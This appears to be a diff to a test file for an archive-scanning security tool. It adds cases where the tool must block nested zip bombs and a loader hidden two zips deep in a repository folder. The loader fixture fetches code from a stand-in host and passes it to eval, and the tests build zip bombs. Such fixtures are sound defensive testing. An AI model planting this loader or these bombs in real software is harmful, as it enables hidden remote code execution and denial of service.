@@ -1,15 +1,15 @@
 /**
  * Hostile archives through the CLI: traversal, absolute names, link and device entries, a 2 GB zip bomb built in
  * 2 MB (one deflate block of zeros repeated after full flushes), a nested bomb, a gzip bomb, a .git folder with
- * hooks and core.fsmonitor, and truncated archives.
+ * hooks and core.fsmonitor, truncated archives, and a loader hidden two archives deep in a folder.
  */
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import zlib from 'node:zlib';
 import yazl from 'yazl';
 import tar from 'tar-stream';
-import { assertIncomplete, PACKAGE_LURE, sandbox, scanHostile, TASKS_LURE, type Sandbox } from './harness.js';
+import { assertHygiene, assertIncomplete, PACKAGE_LURE, runCli, sandbox, scanHostile, TASKS_LURE, type Sandbox } from './harness.js';
 
 function zipOf(entries: { name: string; data?: Buffer | string; mode?: number; compress?: boolean }[]): Promise<Buffer> {
   return new Promise((resolve) => {
@@ -177,14 +177,34 @@ describe('hostile archives (CLI, sandboxed)', function () {
     assertIncomplete(result, /archive-(?:corrupt|bomb|size-limit)/);
   });
 
-  it('A05 a nested bomb (the 2 GB bomb inside a zip inside a zip): outer read, inner never expanded', async () => {
+  it('A05 a nested bomb (the 2 GB bomb inside a zip inside a zip): the levels are expanded, the bomb refused by ratio, quickly', async () => {
     sb = sandbox('a05');
     const inner = await zipBomb('zeros.bin', 2048);
     const middle = await zipOf([{ name: 'inner.zip', data: inner, compress: false }, { name: 'inner2.zip', data: inner, compress: false }]);
     const outer = await zipOf([{ name: 'p/middle.zip', data: middle, compress: false }, { name: 'p/.vscode/tasks.json', data: TASKS_LURE }]);
-    const { result } = await scanArchive('a05.zip', outer);
+    const { run, result } = await scanArchive('a05.zip', outer);
     assert.equal(result!.verdict, 'block');
+    assertIncomplete(result, 'archive-bomb');
+    assert.deepEqual(result!.diagnostics.filter((d) => d.code === 'archive-bomb').map((d) => d.file).sort(), ['middle.zip!/inner.zip!/zeros.bin', 'middle.zip!/inner2.zip!/zeros.bin']);
     assert.ok(result!.stats.bytes < 64 * 1024 * 1024, `read ${result!.stats.bytes} bytes`);
+    assert.ok(run.ms < 30_000, `took ${run.ms} ms`);
+  });
+
+  it('A11 a loader only inside a zip in a zip in the repository folder: read, blocks, every report format survives the nested path', async () => {
+    sb = sandbox('a11');
+    const loader = "require('https').get('https://fonts-cdn.invalid/api/ipcheck-encrypted/77', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n";
+    const inner = await zipOf([{ name: 'setup/install.js', data: loader }]);
+    writeFileSync(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0' }));
+    mkdirSync(path.join(sb.target, 'assets'));
+    writeFileSync(path.join(sb.target, 'assets', 'bundle.zip'), await zipOf([{ name: 'vendor/setup.zip', data: inner }]));
+    const { result } = await scanHostile(sb);
+    assert.equal(result!.verdict, 'block');
+    assert.ok(result!.findings.some((f) => f.location.file === 'assets/bundle.zip!/vendor/setup.zip!/setup/install.js' && f.location.container === 'assets/bundle.zip'));
+    for (const format of ['text', 'sarif', 'markdown'] as const) {
+      const r = await runCli([sb.target, '--format', format], sb.env);
+      assertHygiene(sb, r, { format });
+      assert.match(r.stdout, /bundle\.zip/);
+    }
   });
 
   it('A06 a gzip bomb (tar.gz whose one member claims 2 GB of zeros): stopped at the expansion cap', async () => {
